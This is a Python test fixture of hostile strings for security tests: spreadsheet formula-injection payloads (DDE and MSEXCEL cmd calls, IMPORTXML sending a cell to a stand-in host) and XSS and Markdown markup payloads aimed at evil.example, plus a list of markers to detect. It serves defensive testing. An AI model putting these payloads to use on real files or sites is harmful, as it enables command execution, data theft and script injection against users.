"""Hostile strings shared by the security tests: formulas for a spreadsheet, markup for a browser.

FORMULA_PAYLOADS follows OWASP's CSV injection guidance (cells starting with = + - @ tab CR) and
what LibreOffice adds (NUL or white space before the sign, `{=…}` array formulas), with DDE, the
web functions of Excel and Google Sheets, full-width and invisible prefixes. MARKUP_PAYLOADS is
what a browser, Streamlit's Markdown (directives, LaTeX) or plotly's label HTML could interpret.
Every URL points at 127.0.0.1:9 (discard) or evil.example (reserved, never resolves): a test that
failed would make no request to a real host.
"""

from __future__ import annotations

FORMULA_PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://127.0.0.1:9/x","click")',
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    "\u00a0=1+1",  # no-break space
    "\u200b=1+1",  # zero-width space
    "\ufeff=1+1",  # byte-order mark
    "{=1+1}",
    "\uff1d1+1",  # full-width =
    "\uff0b1+1",  # full-width +
    "\uff201+1",  # full-width @
    "\ufe661+1",  # small =
    '=DDE("cmd";"/C calc";"!A0")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    '=IMPORTXML(CONCAT("http://127.0.0.1:9/?v=",A1),"//a")',
    '=WEBSERVICE("http://127.0.0.1:9/x")',
    '=IMAGE("http://127.0.0.1:9/p.png")',
    '=IMPORTDATA("http://127.0.0.1:9/x")',
    "'=1",  # already quoted: must stay as typed, not become a formula
    "\t@SUM(1)",
    "\r\n+1+1",
    '="=1"&"+1"',
    '{=HYPERLINK("http://127.0.0.1:9/y")}',
    "\x0b=1+1",  # vertical tab
    '=HYPERLINK("javascript:alert(1)","x")',
    "-0+1",
)

MARKUP_PAYLOADS = (
    "<script>window.pwned=1;alert(1)</script>",
    '<img src=x onerror="window.pwned=2;alert(2)">',
    "<svg onload=alert(3)>",
    '<a href="javascript:alert(4)">a4</a>',
    "javascript:alert(5)",
    "![pixel](http://evil.example/pixel.png)",
    "[a7](javascript:alert(7))",
    '<iframe src="http://evil.example/frame"></iframe>',
    "&lt;b&gt;entity&lt;/b&gt; &#60;b&#62;",
    "{{7*7}} ${7*7}",
    "<style>body{display:none}</style>",
    ":red[red text] :material/warning: :streamlit:",
    "$\\href{http://evil.example/latex}{l13}$",
    "</script><script>alert(14)</script>",
    "<details open ontoggle=alert(15)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(16)>",
    '<object data="http://evil.example/object"></object>',
    "<link rel=stylesheet href=http://evil.example/s.css>",
    "[phish](http://evil.example/phish)",
    '<input autofocus onfocus="alert(20)">',
    '" onmouseover="alert(21)" x="',
    "<b>bold</b><marquee>m22</marquee>",
    "**bold** _it_ `code` ~~s~~ # h",
    "<!-- c24 --><base href=http://evil.example/>",
)

# URLs and functions a payload would reach: none may appear in an href, a src or a request.
EVIL_MARKERS = ("evil.example", "127.0.0.1:9", "javascript:")
